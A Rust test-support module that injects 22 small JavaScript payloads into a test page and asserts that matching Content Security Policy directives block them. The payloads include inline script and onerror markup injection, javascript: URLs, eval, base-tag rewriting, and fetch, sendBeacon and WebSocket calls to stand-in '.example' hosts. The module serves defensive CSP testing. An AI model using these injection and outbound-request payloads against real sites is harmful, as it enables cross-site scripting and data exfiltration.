//! Scripts that attack the page.

use serde_json::{Value, json};
use support::Story;
use support::web::HIDDEN_HOST;

/// What shows that an attack worked.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Effect {
    /// An injected script ran.
    Ran,
    /// The page looks different.
    Styled,
    /// Another server got a request, on this machine or beyond.
    Requested,
    /// The page's base URL changed.
    Rebased,
}

/// One attack.
#[derive(Clone, Copy)]
pub struct Attack {
    /// Its name.
    pub name: &'static str,
    /// The directive that stops it. Where an engine has Trusted Types, these may stop it first.
    pub directive: &'static str,
    effect: Effect,
    script: &'static str,
}

const fn attack(
    name: &'static str,
    directive: &'static str,
    effect: Effect,
    script: &'static str,
) -> Attack {
    Attack { name, directive, effect, script }
}

/// Every attack. `elsewhere` is another server on this machine, `beyond` one on the network.
pub const ATTACKS: [Attack; 22] = [
    attack("script", "script-src", Effect::Ran, "add('script').append('window.planted = true')"),
    attack("script-file", "script-src", Effect::Ran, "add('script', { src: elsewhere + '.js' })"),
    attack("import", "script-src", Effect::Ran, "import(elsewhere + '.js').catch(() => {})"),
    attack(
        "handler",
        "script-src",
        Effect::Ran,
        "add('button').setAttribute('onclick', 'window.planted = true'); document.body.lastChild.click()",
    ),
    attack(
        "markup",
        "script-src",
        Effect::Ran,
        "add('div', { innerHTML: '<img src=\"data:,\" onerror=\"window.planted = true\">' })",
    ),
    attack(
        "javascript-url",
        "script-src",
        Effect::Ran,
        "add('a', { href: 'javascript:void(window.planted = true)' }).click()",
    ),
    attack("eval", "script-src", Effect::Ran, "window.eval('window.planted = true')"),
    attack(
        "worker",
        "worker-src",
        Effect::Requested,
        "new Worker(URL.createObjectURL(new Blob([`fetch('${elsewhere}')`])))",
    ),
    attack("style", "style-src", Effect::Styled, "add('style').append('body { opacity: 0.5 }')"),
    attack(
        "style-file",
        "style-src",
        Effect::Styled,
        "add('link', { rel: 'stylesheet', href: elsewhere + '.css' })",
    ),
    attack(
        "style-attribute",
        "style-src",
        Effect::Styled,
        "document.body.setAttribute('style', 'opacity: 0.5')",
    ),
    attack(
        "fetch",
        "connect-src",
        Effect::Requested,
        "fetch(beyond, { mode: 'no-cors' }).catch(() => {})",
    ),
    attack("beacon", "connect-src", Effect::Requested, "navigator.sendBeacon(beyond, 'x')"),
    attack(
        "socket",
        "connect-src",
        Effect::Requested,
        "new WebSocket(beyond.replace('https', 'wss'))",
    ),
    attack("form", "form-action", Effect::Requested, "add('form', { action: elsewhere }).submit()"),
    attack("frame", "frame-src", Effect::Requested, "add('iframe', { src: elsewhere })"),
    attack("object", "object-src", Effect::Requested, "add('object', { data: elsewhere })"),
    attack(
        "embed",
        "object-src",
        Effect::Requested,
        "add('embed', { src: elsewhere, type: 'text/html' })",
    ),
    attack("image", "img-src", Effect::Requested, "add('img', { src: elsewhere })"),
    attack("sound", "media-src", Effect::Requested, "add('audio', { src: elsewhere })"),
    attack(
        "font",
        "font-src",
        Effect::Requested,
        "new FontFace('x', `url(${elsewhere})`).load().catch(() => {})",
    ),
    attack(
        "base",
        "base-uri",
        Effect::Rebased,
        "document.head.append(Object.assign(document.createElement('base'), { href: elsewhere }))",
    ),
];

/// Runs an attack as a script of the page would: in some engines a driver's script may do more.
/// Returns the violated directives and the exceptions.
const RUN: &str = "
    const [elsewhere, beyond, directive] = arguments;
    const add = (tag, properties) => {
        const element = Object.assign(document.createElement(tag), properties);
        document.body.append(element);
        return element;
    };
    return new Promise((done) => {
        const results = [];
        const end = () => done(results);
        addEventListener('securitypolicyviolation', (event) => {
            const violated = event.effectiveDirective;
            results.push(violated);
            // Another one may be a late report of the attack before.
            if (violated.startsWith(directive) || violated === 'require-trusted-types-for') setTimeout(end);
        });
        setTimeout(() => {
            try { attempt(); } catch (error) { results.push(String(error)); setTimeout(end); }
        });
        if (!document.querySelector('meta[http-equiv]')) setTimeout(end, 100);
    });";

/// Runs an attack on the current page. Returns the violated directives and the exceptions.
pub fn run(story: &Story, attack: Attack) -> Vec<String> {
    let elsewhere = format!("{}{}", story.other_origin().url(), attack.name);
    let beyond = format!("https://{}.example/", attack.name);
    let script = format!("const attempt = () => {{ {} }};{RUN}", attack.script);
    let results = story
        .browser()
        .script(&script, vec![json!(elsewhere), json!(beyond), json!(attack.directive)]);
    // A page that navigated away cannot answer.
    let results = results.unwrap_or_default();
    results.as_array().into_iter().flatten().filter_map(Value::as_str).map(str::to_owned).collect()
}

/// Whether an attack worked.
pub fn worked(story: &Story, attack: Attack) -> bool {
    let holds = |script: &str| story.browser().script(script, vec![]).is_ok_and(|it| it == true);
    match attack.effect {
        Effect::Ran => holds("return window.planted === true"),
        Effect::Styled => holds("return getComputedStyle(document.body).opacity === '0.5'"),
        Effect::Rebased => holds("return document.baseURI.endsWith('/base')"),
        Effect::Requested => {
            let requested = story.other_origin().record().all().into_iter().map(|it| it.url);
            requested.chain(story.blocked()).any(|url| {
                // WebKit hides the host from the proxy.
                url.contains(attack.name) || url == HIDDEN_HOST
            })
        }
    }
}

/// Runs an attack, and asserts that its directive stops it.
pub fn see_stopped(story: &Story, attack: Attack) {
    let name = attack.name;
    let results = run(story, attack);
    let stopped = |result: &String| {
        result.starts_with(attack.directive) || result == "require-trusted-types-for"
    };
    assert!(results.iter().any(stopped), "{name}: {results:?}");
    assert!(!worked(story, attack), "{name} worked");
}
